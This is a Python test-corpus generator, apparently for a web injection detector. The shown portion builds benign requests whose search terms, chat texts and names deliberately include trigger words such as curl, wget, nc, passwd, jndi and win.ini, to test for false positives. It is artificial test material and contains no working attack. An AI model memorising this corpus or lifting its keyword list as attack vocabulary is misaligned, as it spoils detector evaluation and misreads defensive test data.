    "Class.forName loads the JDBC driver in old code",
    "newInstance() is deprecated, use the constructor",
    "getClassLoader() returns null for bootstrap classes",
    "the remote include feature was removed from the CMS",
    "files from 192.168.1.20 are the printer scans",
    "the office router is at 10.0.0.1, don't change it",
    "the template param in the report URL picks the layout",
    "page 3 of the spec has the diagram",
    "the link ends with a question mark, is that right?",
    "see you at 10:30 & bring the slides",
    "Tom & Jerry marathon this weekend",
    "A | B testing results are in",
    "50% done; the rest tomorrow",
    "the cost is $5 (incl. tax)",
    "ratio is 3/4, then halve it",
    "C:\\Users\\Public is shared on the old laptops",
    "copy it to D:\\backup please",
    "the ... in the mockup means more items",
    "wait... what?",
    "the path is docs/guides/setup.md",
    "go up two folders and open the README",
    "if exist checks in batch files are legacy",
    "for /? shows the help in cmd",
    "ver shows the Windows version",
    "history lessons: the first release was in 2015",
    "the su command needs the root password, ask ops",
    "which shell do you use, zsh or bash?",
    "the cat command prints files; the cat sleeps on my keyboard",
    "sort | uniq -c is my favourite pipeline",
    "I'll fc the last command, it had a typo",
    "exec summary for the board is ready",
]

SEARCHES = [
    "cat", "id", "ping", "dir", "type", "java", "runtime", "process", "powershell", "invoke", "shell", "bash",
    "curl", "wget", "passwd", "etc", "win.ini", "config", "env", "htaccess", "web config", "jsp", "class",
    "loader", "jndi", "ldap", "rmi", "dns", "log4j", "serialization", "transformer", "decoder", "sqlite",
    "system", "mail from", "rcpt", "imap", "pop3", "alias", "history", "uname", "whoami", "ls", "sh", "nc", "dd",
    "ps", "su", "for", "if", "exist", "defined", "reg", "wmic", "schtasks", "tasklist", "sc", "net user", "ipconfig",
    "ver", "cmd", "comspec", "file", "include", "page", "template", "path", "root", "docroot", "http", "https",
    "ftp", "192.168", "10.0.0.1", "O'Brien", "Anne-Marie", "José García", "Zoë Kravitz", "Müller", "Nguyễn",
    "smith & sons", "a|b", "50%", "$5", "(555) 123-4567", "c++", "c#", "node.js", ".net", "v1.2.3", "..",
    "dev/ops", "cat food", "id card", "dir assistant", "type a", "ping pong", "history teacher", "alias name",
]

PUBLIC_URLS = [
    "https://docs.oracle.com/javase/8/docs/api/java/lang/ProcessBuilder.html",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-expression",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/for",
    "https://www.gnu.org/software/bash/manual/bash.html#Shell-Expansions",
    "https://logging.apache.org/log4j/2.x/manual/lookups.html",
    "https://www.sqlite.org/cli.html",
    "https://datatracker.ietf.org/doc/html/rfc5321",
    "https://en.wikipedia.org/wiki/Shellshock_(software_bug)",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://httpd.apache.org/docs/2.4/howto/htaccess.html",
    "https://github.com/acme/api/blob/main/docs/setup.md",
    "https://github.com/acme/api/issues?q=is%3Aopen+label%3Abug",
    "https://example.com/search?q=java+runtime&page=2",
    "https://cdn.example.org/assets/app.js?v=3",
    "https://www.example.co.uk/about-us/",
    "https://stackoverflow.com/questions/tagged/bash",
    "https://maven.apache.org/guides/getting-started/",
    "https://commons.apache.org/proper/commons-collections/",
    "https://spring.io/security/cve-2022-22965",
    "https://tomcat.apache.org/tomcat-9.0-doc/class-loader-howto.html",
    "https://hooks.slack.com/services/T0000/B0000/XXXX",
    "https://calendar.example.com/event?id=42&tz=Europe%2FBerlin",
    "https://docs.python.org/3/library/subprocess.html",
    "https://man7.org/linux/man-pages/man5/passwd.5.html",
    "https://news.example.net/2024/05/12/java-21-released",
    "https://shop.example.com/products/cat-tree?color=grey",
    "https://maps.example.com/?q=10+Downing+Street",
    "https://blog.example.org/posts/why-we-moved-to-nginx",
]

PROSE = [
    "Please ping me once the cat has been fed.",
    "Type your id number as printed on the card.",
    "The director (dir. of sales) signs the contract.",
    "For each invoice, if paid, mark it done.",
    "Process builder workshop: Tuesday 3pm, room 4.",
    "Java Runtime Environment 17 is required for the tool.",
    "Our shell company jokes are getting old.",
    "Power shell casing for the new phones arrived.",
    "Invoke the help menu with F1.",
    "The system of record is the HR database.",
    "Head of history department: Dr. Smith.",
    "Alias: Bob (Robert) Jones",
    "Mail from the bank arrived; data attached.",
    "The sc meeting (steering committee) is at 10.",
    "Regarding the reg. form: fill in all fields.",
    "Net user growth was 5% last quarter.",
    "The ver. 2 draft is attached.",
    "The class loader diagram is on page 4.",
    "Deserialization of the survey results took a while.",
    "The transformer in the basement needs service.",
    "Decoder ring included with every cereal box.",
    "Our SQLite file is under 1 MB.",
    "Template: letter-of-intent.docx",
    "Include page numbers in the footer.",
    "Root cause: a typo in the config file.",
    "Path to success: practise every day.",
    "Exist or not, the meeting happens.",
    "If defined, the budget line is used.",
    "Tail, head, and body of the report need work.",
    "Find the nearest exit in case of fire.",
]

PROFILES = [
    ("Ann O'Neil", "10 Downing Street, London SW1A 2AA"),
    ("Bob D'Arcy", "1600 Amphitheatre Pkwy, Mountain View, CA"),
    ("Chen Wei", "Room 1/2, 3 Queen's Road, Hong Kong"),
    ("Dörte Müller", "Hauptstraße 5, 10115 Berlin"),
    ("Éamon Ó Súilleabháin", "Apt. #4, 12 Grafton St, Dublin 2"),
    ("Fatima Al-Sayed", "P.O. Box 1234, Dubai"),
    ("Gustav Cat", "Katzenweg 7 & 9, Wien"),
    ("Hiro Id", "1-2-3 Shibuya, Tokyo 150-0002"),
    ("Ines Type", "Rua do Ouro 100, 1100-060 Lisboa"),
    ("Jean-Luc Dir", "12 rue de la Paix, 75002 Paris"),
    ("Kim Ping", "88 Nathan Rd (Block C), Kowloon"),
    ("Lars Shell", "Storgatan 1, 111 51 Stockholm"),
    ("María Java", "Calle Mayor 3, 28013 Madrid"),
    ("Nils Runtime", "Karl Johans gate 22, 0159 Oslo"),
    ("Olga Process", "Nevsky Prospekt 28, St Petersburg"),
    ("Pat Builder", "Unit 5/17 George St, Sydney NSW 2000"),
    ("Quinn History", "45 Elm St, Springfield, IL 62701"),
    ("Rosa Alias", "Via Roma 1, 00184 Roma"),
    ("Sam Su", "No. 7, Lane 3, Taipei 100"),
    ("Tess Env", "2 Harbour View, Cape Town 8001"),
    ("Uma Sh", "Flat 3B, 22 MG Road, Bengaluru 560001"),
    ("Vic Echo", "300 Main St, Suite 100, Boston, MA 02108"),
    ("Wen Loader", "Nanjing Rd 99, Shanghai"),
    ("Xavier Class", "Av. Paulista 1000, São Paulo"),
    ("Yara Mail", "Rua Augusta 50, Lisboa"),
    ("Zoe Root", "17 Path Lane, Leeds LS1 4AP"),
    ("Adam Curl", "3 Wget Close, Manchester M1 1AA"),
    ("Bea Nc", "Netcat Straat 4, Amsterdam"),
    ("Carl For", "Ifweg 12, Utrecht"),
    ("Dana Reg", "Registry Rd 5, Auckland 1010"),
]

UPLOAD_NAMES = [
    "report.pdf", "id-card-scan.jpg", "cat.png", "java-notes.txt", "shell-beach.jpeg", "config-screenshot.png",
    "history_essay.docx", "powershell-cheatsheet.pdf", "invoice (1).pdf", "Lebenslauf_Müller.pdf",
    "team photo 2024.jpg", "budget.xlsx", "slides.key", "diagram.svg", "notes.md", "env-setup-guide.pdf",
    "path_to_success.pptx", "ping-pong-tournament.png", "resume.jsp.pdf", "web-config-howto.txt",
]

HEADER_SETS = [
    {"User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36", "Referer": "https://app.example.com/dashboard?tab=users"},
    {"User-Agent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15", "Referer": "https://app.example.com/admin/users/search?q=cat"},
    {"User-Agent": "curl/8.5.0", "Accept": "*/*"},
    {"User-Agent": "python-requests/2.32.3", "Accept-Encoding": "gzip, deflate"},
    {"User-Agent": "PostmanRuntime/7.39.0", "Accept": "*/*", "Cache-Control": "no-cache"},
    {"User-Agent": "okhttp/4.12.0", "Accept-Language": "de-DE,de;q=0.9,en;q=0.8"},
    {"User-Agent": "Java/17.0.11", "Accept": "application/json"},
    {"User-Agent": "Apache-HttpClient/4.5.14 (Java/17.0.11)", "Accept": "application/json"},
    {"User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) WindowsPowerShell/5.1.22621.3672"},
    {"User-Agent": "Wget/1.21.4", "Accept": "*/*"},
    {"User-Agent": UA, "Referer": "https://www.google.com/search?q=example+cat+id"},
    {"User-Agent": UA, "Referer": "https://github.com/acme/api/blob/main/docs/setup.md"},
    {"User-Agent": UA, "X-Trace-Note": "nightly sync for region eu-west-1"},
    {"User-Agent": UA, "X-Trace-Note": "retry 2 of 3; backoff 500ms"},
    {"User-Agent": UA, "Cookie": "session=abc123; theme=dark; lang=en-GB"},
    {"User-Agent": UA, "Cookie": "session=abc123; last_search=cat%20food; tz=Europe%2FLondon"},
    {"User-Agent": "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"},
    {"User-Agent": "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
                   "Gecko) Version/17.5 Mobile/15E148 Safari/604.1", "Accept-Language": "fr-FR,fr;q=0.9"},
    {"User-Agent": "Go-http-client/2.0", "Accept": "application/json"},
    {"User-Agent": "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "Accept": "*/*"},
]

SLASH_COMMANDS = [
    ("/deploy", "api to staging"), ("/deploy", "web --dry-run"), ("/whoami", ""), ("/ping", "eu-west"),
    ("/remind", "me to cat-sit at 5pm"), ("/poll", "\"Lunch?\" \"Pizza\" \"Sushi\""), ("/status", "id 42"),
    ("/history", "last 10"), ("/alias", "set db db-stage"), ("/run", "nightly report for March"),
    ("/search", "java runtime docs"), ("/ticket", "type bug, dir frontend"), ("/oncall", "who"),
    ("/shell", "help"), ("/find", "printer on floor 3"), ("/giphy", "cat"), ("/weather", "if it rains"),
    ("/invite", "@priya to #eng"), ("/status", "for each region"), ("/mail", "from the bank"),
]

RS_BENIGN = [
    ("foo", "bar"), ("var", "hello world"), ("x", "1"), ("test", "test"), ("id", "42"), ("arg1", "value"),
    ("foo", "cat"), ("var", "ping"), ("x", "java"), ("test", "system"), ("id", "12345"), ("arg1", "dir"),
    ("foo", "http"), ("var", "the cat sat on the mat"), ("x", "a,b,c"), ("test", "2024-06-01"),
    ("id", "550e8400-e29b-41d4-a716-446655440000"), ("arg1", "O'Neil"), ("foo", "email@example.org"),
    ("var", "hello+world"),
]


def _upload(filename: str) -> dict[str, Any]:
    return _multipart("/api/users/42/avatar", [("caption", "uploaded from the web app")],
                      ("file", filename, "plain content"))


def _search(q: str, k: int) -> dict[str, Any]:
    if k % 2:
        return prose_request(q)
    return _get(_query("/api/users", [("q", q), ("page", "1")]))


def _slash(command: str, text: str, k: int) -> dict[str, Any]:
    body = urllib.parse.urlencode([
        ("token", "verification-token"), ("team_id", "T061EG9R6"), ("team_domain", "acme"),
        ("channel_id", "C0123456789"), ("channel_name", "eng"), ("user_id", "U012345678"), ("user_name", "ann"),
        ("command", command), ("text", text),
        ("response_url", f"https://hooks.slack.com/commands/T061EG9R6/{1000 + k}/abcdef"),
        ("trigger_id", f"{1000 + k}.1234.abcdef"), ("api_app_id", "A0PNCHHK2")])
    return {"method": "POST", "uri": "/slack/commands", "body": body,
            "headers": {"User-Agent": "Slackbot 1.0 (+https://api.slack.com/robots)",
                        "Content-Type": "application/x-www-form-urlencoded",
                        "X-Slack-Request-Timestamp": "1719000000", "X-Slack-Signature": "v0=" + "0" * 64}}


def _rs_benign(path: str, name: str, value: str, k: int) -> dict[str, Any]:
    mode = k % 4
    if mode == 0:
        return _get(_query(path, [(name, value)]))
    if mode == 1:
        return _form(path, [(name, value)])
    if mode == 2:
        return _json(path, {name: value})
    return _with_header(_get(path), "X-Custom", value)


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS, NAME)
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, NAME, n)
    n = yield from numbered((_search(q, k) for k, q in enumerate(SEARCHES + SEARCHES[::-1])),
                            f"{NAME}-search", n, "query")
    n = yield from numbered((_json("/api/users", {"name": nm, "address": addr, "bio": f"{nm} lives at {addr}"})
                             for nm, addr in PROFILES), f"{NAME}-profile", n, "json")
    n = yield from numbered((_upload(f) for f in UPLOAD_NAMES), f"{NAME}-upload", n, "multipart-filename")
    n = yield from numbered(({**_get(_query("/api/users", [("q", q), ("page", "1")])), "headers": h}
                             for h, q in zip(HEADER_SETS, SEARCHES, strict=False)), f"{NAME}-header", n, "header")
    n = yield from numbered((_slash(c, t, k) for k, (c, t) in enumerate(SLASH_COMMANDS)), f"{NAME}-command", n,
                            "form")
    n = yield from numbered((_xml("/api/users", "user", "notes", t) for t in PROSE + SLACK_TEXTS[:60]),
                            f"{NAME}-xmlnote", n, "xml")
    n = yield from numbered((_multipart("/admin/users/search", [("csrf_token", "t0k3n"), ("notes", t)], None)
                             for t in SLACK_TEXTS[60:]), f"{NAME}-field", n, "multipart-field")
    yield from numbered((_rs_benign(RS_PATHS[k % len(RS_PATHS)], nm, v, k)
                         for k, (nm, v) in enumerate(RS_BENIGN * 2 + RS_BENIGN[::-1] * 3)),
                        f"{NAME}-rsbenign", n, "rs-mixed")


if __name__ == "__main__":
    print_records(attacks(), benign())
